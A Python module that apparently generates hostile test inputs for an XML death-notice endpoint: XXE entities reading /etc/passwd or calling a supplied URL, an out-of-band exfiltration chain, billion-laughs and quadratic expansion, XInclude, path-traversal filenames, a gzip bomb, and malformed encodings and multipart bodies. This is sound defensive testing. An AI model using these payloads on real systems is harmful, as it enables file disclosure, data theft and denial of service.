"""The documents that mean harm: to be read without end, to reach for what is outside, or to be taken for something else."""

import gzip
from dataclasses import dataclass, field

# Sizes in bytes: of an ordinary message at most, of one with large attachments, and of more than the server is to take.
LONG, HUGE, BEYOND = 900_000, 12_000_000, 60_000_000
FILES = "doedsfall_v1.vedlegg"


@dataclass(slots=True)
class Document:
    """One of them. What is harmless only says something that a reader may ignore, and may be received."""

    name: str
    body: bytes
    type_: str = "application/xml"
    address: str = "doedsfall_v1"
    headers: dict = field(default_factory=dict)
    harmless: bool = False


def corpus(real, url):
    """All, made of a real message; what they would have fetched is at the address."""
    xml = [*types(real, url), *shapes(real), *hints(real, url), *encodings(real), *broken(real)]
    large = [Document(f"{name}, as a part", multipart([part("melding", body)]), "multipart/form-data; boundary=x", FILES) for name, body in large_shapes(real)]
    return [*xml, *large, *parts(real), *packed(real)]


def inside(real, what):
    """Something in the place of a text."""
    assert "SAKSBEHANDLER-1" in real
    return real.replace("SAKSBEHANDLER-1", what).encode()


def before(real, what):
    """Something before the root."""
    assert real.startswith("<?xml") and "?>\n<" in real
    return real.replace("?>\n<", f"?>\n{what}<", 1).encode()


def typed(real, declarations, reference="&y;"):
    """A document type, and something that refers to what it declares."""
    return before(inside(real, reference).decode(), f"<!DOCTYPE x {declarations}>")


def types(real, url):
    """Document types: entities from outside, and such as grow."""
    laughs = '<!ENTITY y0 "ha">' + "".join(f'<!ENTITY y{i} "{f"&y{i - 1};" * 10}">' for i in range(1, 12))
    doubled = '<!ENTITY y0 "ha">' + "".join(f'<!ENTITY y{i} "&y{i - 1};&y{i - 1};">' for i in range(1, 64))
    yield from (
        Document("external entity, file", typed(real, '[<!ENTITY y SYSTEM "file:///etc/passwd">]')),
        Document("external entity, device", typed(real, '[<!ENTITY y SYSTEM "file:///dev/zero">]')),
        Document("external entity, http", typed(real, f'[<!ENTITY y SYSTEM "{url}">]')),
        Document("external entity, public", typed(real, f'[<!ENTITY y PUBLIC "-//x//y" "{url}">]')),
        Document("external subset, http", typed(real, f'SYSTEM "{url}x.dtd"', "")),
        Document("external subset, file", typed(real, 'SYSTEM "file:///etc/passwd"', "")),
        Document("parameter entity", typed(real, f'[<!ENTITY % y SYSTEM "{url}"> %y;]', "")),
        Document("parameter entity in a value", typed(real, f"[<!ENTITY % a SYSTEM 'file:///etc/passwd'><!ENTITY % b \"<!ENTITY &#37; c SYSTEM '{url}?%a;'>\">%b;%c;]", "")),
        Document("billion laughs", typed(real, f"[{laughs}]", "&y11;")),
        Document("laughs by doubling", typed(real, f"[{doubled}]", "&y63;")),
        Document("laughs by parameters", typed(real, '[<!ENTITY % a "ha">' + "".join(f'<!ENTITY % b{i} "{"%a;" * 10}">' for i in range(20)) + "]", "")),
        Document("quadratic blow-up", typed(real, f'[<!ENTITY y "{"x" * (LONG // 2)}">]', "&y;" * (LONG // 8))),
        Document("an entity of itself", typed(real, '[<!ENTITY y "&y;">]')),
        Document("attribute defaults", typed(real, '[<!ATTLIST x y CDATA "z">]', "")),
        Document("a type that ends not", before(real, "<!DOCTYPE x [" + "<!ENTITY y 'z'>" * 50_000)),
        Document("a type of brackets", before(real, "<!DOCTYPE x " + "[" * LONG)),
        Document("an unknown entity", inside(real, "&y;")),
        Document("ampersands", inside(real, "&" * LONG)),
        Document("a name of an entity", inside(real, "&" + "y" * LONG + ";")),
    )


def shapes(real):
    """Depth, width and length, within the size that a message may have."""
    for name, what in (
        ("deep", "<a>" * 100_000 + "</a>" * 100_000),
        ("deep, never closed", "<a>" * 290_000),
        ("wide", "<a/>" * 220_000),
        ("a huge attribute", f'<a b="{"x" * LONG}"/>'),
        ("100 000 attributes", "<a" + "".join(f' a{i}=""' for i in range(90_000)) + "/>"),
        ("the same attribute", "<a" + ' b=""' * 180_000 + "/>"),
        ("a huge name", f"<{'x' * LONG}/>"),
        ("a huge prefix", f"<{'x' * LONG}:a/>"),
        ("namespaces on one", "<a" + "".join(f' xmlns:a{i}="u"' for i in range(50_000)) + "/>"),
        ("namespaces, nested", "".join(f'<a xmlns:a{i}="u{i}">' for i in range(40_000))),
        ("a huge namespace", f'<a xmlns="{"x" * LONG}"/>'),
        ("a huge text", "x" * LONG),
        ("a huge comment", f"<a><!--{'x' * LONG}--></a>"),
        ("a comment that ends not", f"<!--{'-' * LONG}"),
        ("many comments", "<b/>" + "<!---->" * 120_000),
        ("a huge instruction", f"<a><?x {'x' * LONG}?></a>"),
        ("an instruction that ends not", f"<?x {'?' * LONG}"),
        ("a huge section", f"<![CDATA[{'x' * LONG}]]>"),
        ("a section that ends not", f"<![CDATA[{']' * LONG}"),
        ("many sections", "<b/>" + "<![CDATA[]]>" * 70_000),
        ("many references", "<b/>" + "&#65;" * 170_000),
        ("openings", "<" * LONG),
        ("quotes that end not", "<a b='" + "\"" * LONG),
        ("lines", "<b/>" + "\n" * LONG + "<a/>" * 10_000),
    ):
        yield Document(name, inside(real, what))


def large_shapes(real):
    """The same beyond it: what comes with attachments may be larger."""
    for name, what in (
        ("deep, 12 MB", "<a>" * (HUGE // 3)),
        ("a million attributes", "<a" + "".join(f' a{i}=""' for i in range(1_000_000)) + "/>"),
        ("a huge attribute, 12 MB", f'<a b="{"x" * HUGE}"/>'),
        ("a huge text, 12 MB", "x" * HUGE),
        ("wide, 12 MB", "<a/>" * (HUGE // 4)),
        ("a comment that ends not, 12 MB", f"<!--{'-' * HUGE}"),
        ("openings, 12 MB", "<" * HUGE),
    ):
        yield name, inside(real, what)


def hints(real, url):
    """Things outside that a document points at."""
    xsi = 'xmlns:i="http://www.w3.org/2001/XMLSchema-instance"'
    instruction = f'<?xml-stylesheet type="text/xsl" href="{url}x.xsl"?>'

    def asking(attribute):
        return real.replace("<forespoersel>", f"<forespoersel {xsi} {attribute}>", 1).encode()

    yield from (
        Document("included", inside(real, f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{url}"/>')),
        Document("included text", inside(real, '<x:include xmlns:x="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>')),
        Document("another type", asking('i:type="x"')),
        Document("a link", real.replace("<forespoersel>", f'<forespoersel xmlns:l="http://www.w3.org/1999/xlink" l:href="{url}">', 1).encode()),
        Document("a base", real.replace("<forespoersel>", f'<forespoersel xml:base="{url}">', 1).encode()),
        Document("another namespace", real.replace("doedsfall:v1", "doedsfall:v1x", 1).encode()),
        Document("no namespace", real.replace(' xmlns="', ' xmlns:a="', 1).encode()),
        Document("a stylesheet", before(real, instruction), harmless=True),
        Document("a schema by http", asking(f'i:schemaLocation="folkeregisteret:melding:doedsfall:v1 {url}x.xsd"'), harmless=True),
        Document("a schema by file", asking('i:noNamespaceSchemaLocation="file:///etc/passwd"'), harmless=True),
        Document("UTF-8 with a mark", b"\xef\xbb\xbf" + real.encode(), harmless=True),
    )


def encodings(real):
    """Texts that are something else than they say, or than may be."""
    def said(encoding, body=None):
        return (body or real).replace('encoding="UTF-8"', f'encoding="{encoding}"')

    yield from (
        Document("UTF-16 with a mark", said("UTF-16").encode("utf-16")),
        Document("UTF-16, no mark", said("UTF-16").encode("utf-16-be")),
        Document("UTF-16 that says UTF-8", real.encode("utf-16-le")),
        Document("UTF-32", said("UTF-32").encode("utf-32")),
        Document("UTF-7", said("UTF-7").encode("utf-7")),
        Document("UTF-7 in name only", said("UTF-7").encode()),
        Document("EBCDIC", said("cp037").encode("cp037")),
        Document("Latin 1", said("ISO-8859-1", inside(real, "æøå").decode()).encode("latin-1")),
        Document("Latin 1 that says UTF-8", inside(real, "æøå").decode().encode("latin-1")),
        Document("two marks", b"\xef\xbb\xbf\xef\xbb\xbf" + real.encode()),
        Document("a mark of UTF-16 before UTF-8", b"\xff\xfe" + real.encode()),
        Document("overlong", real.encode().replace(b"SAKSBEHANDLER-1", b"\xc0\xbca\xc0\xbe")),
        Document("half a pair in UTF-8", real.encode().replace(b"SAKSBEHANDLER-1", b"\xed\xa0\x80")),
        Document("beyond Unicode", real.encode().replace(b"SAKSBEHANDLER-1", b"\xf4\x90\x80\x80")),
        Document("a byte that is none", real.encode().replace(b"SAKSBEHANDLER-1", b"\xff")),
        Document("zero", inside(real, "\0")),
        Document("zero after the end", real.encode() + b"\0"),
        Document("zeros", b"\0" * LONG),
        *(Document(f"reference {what}", inside(real, what)) for what in ("&#0;", "&#xD800;", "&#x110000;", "&#xFFFE;", "&#99999999999999999999;", "&#-1;")),
    )


def broken(real):
    """Texts that are no document."""
    yield from (Document(f"cut off at {share} %", real.encode()[: len(real) * share // 100]) for share in (1, 30, 60, 99))
    yield from (
        Document("two roots", (real + real.split("?>", 1)[1]).encode()),
        Document("nothing", b""),
        Document("blanks", b" " * LONG),
        Document("a declaration alone", b'<?xml version="1.0"?>'),
        Document("text after the end", real.encode() + b"x"),
        Document("closed in another order", inside(real, "<a><b></a></b>")),
        Document("JSON", b'{"a":' * 100_000),
        Document("beyond the size", inside(real, "x" * BEYOND)),
    )


def part(name, content, more="", disposition="Content-Disposition: form-data"):
    """A part with its head."""
    return f'{disposition}; name="{name}"{more}\r\n\r\n'.encode() + content


def multipart(these, boundary="x"):
    """Parts with a boundary between."""
    return b"".join(f"--{boundary}\r\n".encode() + each + b"\r\n" for each in these) + f"--{boundary}--\r\n".encode()


def parts(real):
    """Bodies of parts that are not as they should be."""
    message = part("melding", real.encode())
    nested = multipart([part("melding", real.encode())], "y")
    dashes = "-" * 70
    for name, body, boundary in (
        ("cut off", multipart([message])[:-8], "x"),
        ("cut off in a head", b"--x\r\nContent-Disposition: form-data; na", "x"),
        ("no parts", b"--x--", "x"),
        ("no boundary in it", real.encode(), "x"),
        ("nested", multipart([b"Content-Type: multipart/form-data; boundary=y\r\n\r\n" + nested]), "x"),
        ("nested, by name", multipart([part("melding", nested)]), "x"),
        ("thousands", multipart([message] + [part(f"vedlegg{i}", b"%PDF-1.4", f'; filename="{i}.pdf"') for i in range(5_000)]), "x"),
        ("empty ones", multipart([b""] * 100_000), "x"),
        ("a huge head", multipart([b"X-A: " + b"a" * LONG + b"\r\n" + message]), "x"),
        ("many heads", multipart([b"X-A: a\r\n" * 100_000 + message]), "x"),
        ("a huge name", multipart([part("a" * LONG, real.encode())]), "x"),
        ("no name", multipart([b"Content-Disposition: form-data\r\n\r\n" + real.encode()]), "x"),
        ("a head that is not UTF-8", multipart([b"Content-Disposition: form-data; name=\"\xff\"\r\n\r\n" + real.encode()]), "x"),
        ("one that nobody names", multipart([message, part("vedlegg", b"%PDF-1.4", '; filename="x.pdf"')]), "x"),
        ("a path for a name", multipart([message, part("vedlegg", b"%PDF-1.4", '; filename="../../etc/passwd"')]), "x"),
        ("a file of 12 MB that nobody names", multipart([message, part("vedlegg", b"%PDF-" + b"x" * HUGE, '; filename="x.pdf"')]), "x"),
        ("nearly boundaries", b"--" + dashes.encode() + b"\r\n" + (b"\r\n--" + b"-" * 69 + b"x") * 12_000, dashes),
        ("dashes", b"-" * HUGE, dashes[:-1] + "x"),
        ("line ends", b"--x\r\n" + b"\r\n" * (LONG // 2), "x"),
    ):
        type_ = f"multipart/form-data; boundary={boundary}"
        yield Document(f"parts: {name}", body, type_, FILES)
    for name, type_ in (
        ("without boundary", "multipart/form-data"),
        ("an empty boundary", 'multipart/form-data; boundary=""'),
        ("a long boundary", "multipart/form-data; boundary=" + "x" * 5_000),
        ("mixed", "multipart/mixed; boundary=x"),
        ("a quote that ends not", 'multipart/form-data; boundary="x'),
    ):
        yield Document(f"parts: {name}", multipart([message]), type_, FILES)
    yield Document("parts: where none may be", multipart([message]), "multipart/form-data; boundary=x", "separasjon_v1")


def packed(real):
    """Bodies that are packed, or said to be, and other types."""
    bomb = gzip.compress(b" " * 200_000_000, 9)
    yield from (
        Document("packed, said so", gzip.compress(real.encode()), headers={"Content-Encoding": "gzip"}),
        Document("packed, not said", gzip.compress(real.encode())),
        Document("packed, 200 MB", bomb, headers={"Content-Encoding": "gzip"}),
        Document("packed twice", gzip.compress(bomb), headers={"Content-Encoding": "gzip, gzip"}),
        Document("said to be packed", real.encode(), headers={"Content-Encoding": "br"}, harmless=True),
        *(Document(f"as {type_}", real.encode(), type_) for type_ in ("text/plain", "application/json", "application/xml-dtd", "application/x-www-form-urlencoded", "")),
    )
